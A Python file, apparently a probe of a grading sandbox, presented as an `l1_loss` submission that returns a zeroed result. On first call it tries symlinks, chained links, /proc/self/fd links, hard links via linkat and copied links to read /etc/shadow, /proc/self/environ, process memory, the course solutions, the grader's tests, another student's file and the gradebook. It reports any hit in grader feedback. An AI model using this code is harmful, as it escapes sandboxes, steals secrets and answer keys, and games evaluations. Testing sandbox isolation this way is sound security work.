# aim: reach files outside by links that lie inside the private folder
# sign: `LEAK` and by which kind of link, in feedback
# attacks: l1_loss
import ctypes
import json
import os
import shutil
import sys

_C = ctypes.CDLL(None, use_errno=True)
_AT_FDCWD, _AT_SYMLINK_FOLLOW, _AT_EMPTY_PATH = -100, 0x400, 0x1000
_NAMES = (
    "course.toml",
    "solutions/losses.py",
    "grader/checks/test_losses.py",
    "../class/mid-innocent/losses.py",
    "../results/gradebook.db",
)


def _targets():
    roots = [os.path.dirname(sys.prefix), "/proc/self/cwd/../.."]
    for argument in sys.orig_argv:
        if argument.startswith("{"):
            roots += json.loads(argument).get("protected", ())
    yield from ("/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/self/mem")
    yield from (f"{root}/{name}" for root in dict.fromkeys(roots) for name in _NAMES)


def _symbolic(target):
    os.symlink(target, "link")
    return "link"


def _through_a_folder(target):
    os.symlink(os.path.dirname(target), "link")
    return f"link/{os.path.basename(target)}"


def _in_two_steps(target):
    os.symlink("second", "link")
    os.symlink(target, "second")
    return "link"


def _by_the_kernels_own(target):
    """A link to a link of /proc, which leads to a file and not to a name."""
    descriptor = os.open(target, os.O_PATH)
    os.symlink(f"/proc/self/fd/{descriptor}", "link")
    return "link"


def _hard(target):
    os.link(target, "link", follow_symlinks=True)
    return "link"


def _hard_of_a_descriptor(target):
    descriptor = os.open(target, os.O_PATH)
    for source, flags in ((b"", _AT_EMPTY_PATH), (b"/proc/self/fd/%d" % descriptor, 0x400)):
        if _C.linkat(descriptor, source, _AT_FDCWD, b"link", flags) == 0:
            return "link"
    raise OSError


def _moved(target):
    """As a whole: the file would be gone where it was, so only a copy of the link is moved."""
    os.symlink(target, "second")
    shutil.copy2("second", "link", follow_symlinks=True)
    return "link"


_KINDS = (
    _symbolic,
    _through_a_folder,
    _in_two_steps,
    _by_the_kernels_own,
    _hard,
    _hard_of_a_descriptor,
    _moved,
)


def _search():
    for target in _targets():
        for kind in _KINDS:
            try:
                with open(kind(target), "rb") as file:
                    file.read(1)
                return f"{target}, by {kind.__name__.strip('_')}"
            except OSError:
                pass
            finally:
                for name in ("link", "second"):
                    if os.path.lexists(name):
                        os.unlink(name)
    return ""


_found = []


def l1_loss(input, target, reduction="mean"):
    if not _found:
        _found.append(_search())
    if _found[0]:
        raise RuntimeError(f"LEAK {_found[0]}")
    return input.sum() * 0
